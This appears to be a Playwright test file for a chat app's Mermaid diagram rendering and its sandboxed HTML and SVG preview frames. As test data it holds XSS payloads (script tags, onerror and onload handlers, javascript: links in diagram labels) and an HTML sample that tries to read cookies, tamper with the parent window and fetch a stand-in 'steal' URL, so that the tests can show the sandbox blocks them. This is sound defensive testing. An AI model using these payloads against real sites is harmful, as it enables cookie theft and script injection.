"""Diagrams and previews in real Chromium: a ```mermaid block drawn as a picture once it has
settled (code while it streams), its source a click away and copied either way; one that does
not parse shows its source under the parser's message; an ```html or ```svg block's Preview
runs its code in a sandboxed frame that reads no cookie and loads nothing. Mermaid's theme
follows the page's. Set `CHAT_SCREENSHOTS` to keep screenshots at 1280x800 and 390x844.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from playwright.sync_api import expect

from chatapp.static_vendor import MERMAID
from tests.security.scripted_gateway import INJECTIONS

from .conftest import finished, send
from .conftest import screenshots as shoot

ROOT = Path(__file__).resolve().parents[2]

NEXT_FRAME = "() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))"

pytestmark = [pytest.mark.browser]

FLOW = """flowchart LR
    Ask[Ask a question] --> Think{Known?}
    Think -->|yes| Answer
    Think -->|no| Search --> Answer"""
BROKEN = "flowchart LR\n    A -->> B[[unclosed"


@pytest.fixture
def mermaid() -> None:
    """The drawing tests need Mermaid's file, which `make install` fetches from npm's registry."""
    if not (ROOT / "static" / MERMAID.static_path).exists():
        pytest.skip("Mermaid is not installed (npm's registry was unreachable at make install)")


def leaving_requests(page: Any, server_url: str) -> list[str]:
    """The URLs of requests `page` sends to anywhere but the app from now on, as the network
    sees them (one the CSP refuses never gets this far), each answered with a failure."""
    left: list[str] = []

    def record(route: Any) -> None:
        left.append(route.request.url)
        route.abort()

    page.context.route(lambda url: not url.startswith((server_url, "data:")), record)
    return left


def diagram_answer(page: Any, source: str, before: str = "A diagram:") -> Any:
    return finished(page, f"{before}\n\n```mermaid\n{source}\n```\n")


@pytest.mark.usefixtures("mermaid")
def test_a_mermaid_block_is_drawn_with_its_source_a_click_away(alice: Any, server_url: str) -> None:
    alice.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server_url)
    answer = diagram_answer(alice, FLOW)
    block = answer.locator(".code-block[data-diagram='mermaid']")
    expect(block).to_have_attribute("data-drawing", "drawn", timeout=30_000)
    image = block.locator("figure.diagram img")
    expect(image).to_be_visible()
    expect(block.get_by_label("mermaid code")).to_be_hidden()
    assert image.evaluate("img => img.naturalWidth") > 100
    image.click()  # not the lightbox, whose Download and Copy take rasters
    expect(alice.locator("dialog.lightbox[open]")).to_have_count(0)
    shoot(alice, "diagram")
    block.get_by_role("button", name="Copy").click()  # the source, though the diagram shows
    expect(block.locator("button.copy-code")).to_have_text("Copied")
    assert alice.evaluate("navigator.clipboard.readText()") == FLOW
    block.get_by_role("button", name="Show the diagram's source").click()
    expect(block.get_by_label("mermaid code")).to_be_visible()
    expect(image).to_be_hidden()
    expect(block.get_by_label("mermaid code")).to_contain_text("Ask[Ask a question]")
    shoot(alice, "diagram-source")
    block.get_by_role("button", name="Show the diagram").click()
    expect(image).to_be_visible()


@pytest.mark.usefixtures("mermaid")
def test_a_diagram_that_does_not_parse_shows_its_source_and_the_message(alice: Any) -> None:
    answer = diagram_answer(alice, BROKEN)
    block = answer.locator(".code-block[data-diagram='mermaid']")
    expect(block).to_have_attribute("data-drawing", "failed", timeout=30_000)
    expect(block.get_by_label("mermaid code")).to_be_visible()
    expect(block.locator(".diagram-note")).to_contain_text("This diagram could not be drawn")
    expect(block.locator(".diagram-error")).to_contain_text("Parse error")
    expect(block.locator("figure.diagram")).to_have_count(0)
    shoot(alice, "diagram-failed")


@pytest.mark.usefixtures("mermaid")
@pytest.mark.paced  # the block is watched while its fence is still open
def test_a_diagram_shows_as_code_while_its_fence_is_open(alice: Any) -> None:
    words = " ".join(f"word{i}" for i in range(120))
    send(alice, f"```mermaid\n{FLOW}\n```\n\n{words}", "emulator/echo")
    answer = alice.locator("article.assistant").last
    alice.wait_for_function(
        """el => el.dataset.status === "streaming"
            && el.querySelector(".live-tail.code-block pre code")?.textContent.includes("flowchart")
            && !el.querySelector("figure.diagram")""",
        arg=answer.element_handle(),
    )
    block = answer.locator(".code-block[data-diagram='mermaid']")
    expect(block).to_have_attribute("data-drawing", "drawn", timeout=30_000)
    expect(answer).to_have_attribute("data-status", "completed", timeout=30_000)
    expect(block.locator("figure.diagram img")).to_be_visible()


@pytest.mark.usefixtures("mermaid")
def test_the_diagram_follows_the_theme(alice: Any) -> None:
    answer = diagram_answer(alice, FLOW)
    image = answer.locator("figure.diagram img")
    expect(image).to_be_visible(timeout=30_000)
    drawn = {}
    for theme in ("light", "dark"):
        alice.evaluate(f"document.documentElement.dataset.theme = '{theme}'")
        alice.wait_for_function(
            "([img, before]) => img.src !== before", arg=[image.element_handle(), ""]
        )
        alice.wait_for_function(
            "([img, others]) => !others.includes(img.src) && img.complete",
            arg=[image.element_handle(), list(drawn.values())],
        )
        drawn[theme] = image.get_attribute("src")
        shoot(alice, f"diagram-{theme}")
    assert drawn["light"] != drawn["dark"]
    svg = {theme: unquote(src.split(",", 1)[1]) for theme, src in drawn.items()}
    # Mermaid's dark theme draws light text on dark shapes, its default the opposite.
    assert "#ccc" in svg["dark"].lower() or "lightgrey" in svg["dark"].lower()


HTML = """<!doctype html><style>body{font:16px sans-serif;background:#fdf6e3}</style>
<h1>Hello</h1>
<p id="out">waiting</p>
<img src="https://example.invalid/leak.png" alt="">
<script>
let cookie;
try { cookie = "read: " + document.cookie; } catch (error) { cookie = "refused: " + error.name; }
try { parent.__pwned = "parent"; } catch (error) {}
try { top.__pwned = "top"; } catch (error) {}
try { parent.document.title = "pwned"; } catch (error) {}
try { localStorage.setItem("x", "1"); } catch (error) { cookie += ", storage refused"; }
fetch("https://example.invalid/steal").catch(() => {});
document.getElementById("out").textContent = cookie;
</script>"""


def test_an_html_block_is_previewed_in_a_sandbox_only_on_a_click(
    alice: Any, server_url: str
) -> None:
    left = leaving_requests(alice, server_url)
    answer = finished(alice, f"A page:\n\n```html\n{HTML}\n```\n")
    block = answer.locator(".code-block[data-preview='html']")
    button = block.get_by_role("button", name="Preview")
    expect(button).to_be_visible()
    expect(block.locator("iframe")).to_have_count(0)  # never opened by itself
    button.click()
    frame = block.locator("iframe.preview-frame")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    inside = block.frame_locator("iframe.preview-frame")
    expect(inside.locator("h1")).to_have_text("Hello")
    expect(inside.locator("#out")).to_have_text("refused: SecurityError, storage refused")
    shoot(alice, "preview-html", lambda page: frame.scroll_into_view_if_needed())
    assert alice.evaluate("window.__pwned") is None
    assert alice.title() != "pwned"
    assert left == []
    block.get_by_role("button", name="Close preview").click()
    expect(frame).to_have_count(0)


WATCH_THE_PAGE = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(`${event.violatedDirective}: ${event.sample || event.blockedURI}`);
});
"""
# Every payload of the XSS corpus sets `window.__xss` (or its parent's) if it runs; these set
# `__pwned` on any window they reach.
CORPUS = [*INJECTIONS["inject-html"], "<script>parent.__pwned = top.__pwned = 1</script>"]


def mermaid_label(text: str) -> str:
    return text.replace('"', "#quot;").replace("\r", " ").replace("\n", " ")


def corpus_message() -> str:
    labels = "\n".join(
        f'    N{i}["{mermaid_label(payload)}"] --> N{i + 1}' for i, payload in enumerate(CORPUS)
    )
    diagram = (
        "flowchart TD\n" + labels + '\n    click N0 "javascript:window.__xss=1"\n'
        "    click N1 call alert(1)\n"
    )
    sequence = (
        "sequenceDiagram\n    Alice->>Bob: <img src=x onerror=window.__xss='seq'>\n"
        "    Note over Bob: <script>window.__xss='note'</script>\n"
    )
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__pwned=1" width="200" height="80">'
        "<script>parent.__pwned = top.__pwned = 'svg'</script>"
        '<image href="https://example.invalid/leak.png" width="10" height="10"/>'
        '<a href="javascript:parent.__pwned=1"><text x="10" y="40">SVG</text></a></svg>'
    )
    html = "\n".join(CORPUS)
    return (
        f"```mermaid\n{diagram}```\n\n```mermaid\n{sequence}```\n\n"
        f"```svg\n{svg}\n```\n\n```html\n{html}\n```\n"
    )


@pytest.mark.usefixtures("mermaid")
def test_the_xss_corpus_in_diagrams_svg_and_html_reaches_nothing(
    alice: Any, server_url: str
) -> None:
    alice.context.add_init_script(WATCH_THE_PAGE)
    alice.reload()
    left = leaving_requests(alice, server_url)
    answer = finished(alice, corpus_message())
    diagrams = answer.locator(".code-block[data-diagram='mermaid']")
    expect(diagrams).to_have_count(2)
    for i in range(2):
        expect(diagrams.nth(i)).to_have_attribute(
            "data-drawing", re.compile("drawn|failed"), timeout=30_000
        )
    expect(diagrams.first).to_have_attribute("data-drawing", "drawn")
    for name in ("svg", "html"):
        block = answer.locator(f".code-block[data-preview='{name}']")
        block.get_by_role("button", name="Preview").click()
        expect(block.frame_locator("iframe.preview-frame").locator("body")).to_be_attached()
    frames = answer.locator("iframe.preview-frame")
    expect(frames).to_have_count(2)
    svg_frame = answer.locator(".code-block[data-preview='svg']").frame_locator("iframe")
    expect(svg_frame.locator("text")).to_have_text("SVG")
    alice.evaluate(NEXT_FRAME)
    content = answer.locator(".content")
    for selector in ("script", "svg", "[onerror]", "[onload]", "a[href^=java]", "foreignObject"):
        assert content.locator(selector).count() == 0, selector
    assert alice.evaluate("window.__xss") is None
    assert alice.evaluate("window.__pwned") is None
    assert alice.evaluate("window.__violations") == []
    assert left == []


ADD_BLOCK = """source => {
    const block = document.createElement("div");
    block.className = "code-block";
    block.dataset.diagram = "mermaid";
    block.innerHTML = '<div class="code-head"><span class="code-lang">mermaid</span>'
        + '<button class="copy-code" type="button">Copy</button></div>'
        + '<pre tabindex="0" aria-label="mermaid code"><code></code></pre>';
    block.querySelector("code").textContent = source + "\\n";
    const content = document.createElement("div");
    content.className = "content";
    content.append(block);
    document.querySelector("#messages").append(content);
}"""
# A diagram frame that starts and then never answers, as one whose drawing hangs would not.
SILENT_FRAME = """<!doctype html><script>parent.postMessage({ ready: true }, "*")</script>"""


def added_block(page: Any, source: str) -> Any:
    page.evaluate(ADD_BLOCK, source)
    return page.locator(".code-block[data-diagram='mermaid']").last


@pytest.mark.usefixtures("mermaid")
def test_a_drawing_that_does_not_end_is_given_up_and_the_next_one_is_drawn(alice: Any) -> None:
    alice.goto(alice.url)  # the page as it loads, with no answer drawn yet
    alice.route(
        "**/code-frames/diagram/",
        lambda route: route.fulfill(
            body=SILENT_FRAME,
            content_type="text/html",
            headers={"Content-Security-Policy": "sandbox allow-scripts"},
        ),
    )
    block = added_block(alice, FLOW)
    expect(block).to_have_attribute("data-drawing", "pending")
    expect(block).to_have_attribute("data-drawing", "failed", timeout=20_000)
    expect(block.locator(".diagram-error")).to_have_text("It took longer than 10 seconds to draw.")
    expect(block.get_by_label("mermaid code")).to_be_visible()
    expect(alice.locator("iframe.diagram-drawer")).to_have_count(0)  # its frame is gone
    alice.unroute("**/code-frames/diagram/")
    expect(added_block(alice, FLOW + "\n    Answer --> Done")).to_have_attribute(
        "data-drawing", "drawn", timeout=30_000
    )


def test_a_diagram_too_long_to_draw_shows_as_code(alice: Any) -> None:
    source = "flowchart LR\n" + "\n".join(f"    A{i} --> B{i}" for i in range(2_000))
    block = added_block(alice, source)
    expect(block).to_have_attribute("data-drawing", "failed")
    expect(block.locator(".diagram-note")).to_have_text(
        "Not drawn: a diagram of over 20,000 characters is shown as code."
    )
    expect(alice.locator("iframe.diagram-drawer")).to_have_count(0)  # Mermaid never loaded


def test_without_mermaid_installed_diagrams_show_as_code(alice: Any) -> None:
    alice.route("**/vendor/mermaid/**", lambda route: route.abort())
    block = added_block(alice, FLOW)
    expect(block).to_have_attribute("data-drawing", "unavailable", timeout=30_000)
    expect(block.locator(".diagram-note")).to_have_text(
        "Diagrams are not installed on this server: shown as code."
    )
    expect(block.get_by_label("mermaid code")).to_be_visible()


@pytest.mark.usefixtures("mermaid")
def test_a_diagram_put_back_for_back_is_drawn_once(alice: Any, server_url: str) -> None:
    answer = diagram_answer(alice, FLOW)
    conversation = alice.url
    block = answer.locator(".code-block[data-diagram='mermaid']")
    expect(block).to_have_attribute("data-drawing", "drawn", timeout=30_000)
    alice.get_by_role("link", name="New chat").click()
    expect(alice).to_have_url(f"{server_url}/")
    alice.go_back()
    expect(alice).to_have_url(conversation)
    block = alice.locator(".code-block[data-diagram='mermaid']").last
    expect(block).to_have_attribute("data-drawing", "drawn", timeout=30_000)
    expect(block.locator("figure.diagram")).to_have_count(1)
    expect(block.locator(".diagram-toggle")).to_have_count(1)
    expect(block.locator("figure.diagram img")).to_be_visible()
    expect(block.get_by_label("mermaid code")).to_be_hidden()
    assert alice.locator("iframe.diagram-drawer").count() <= 1
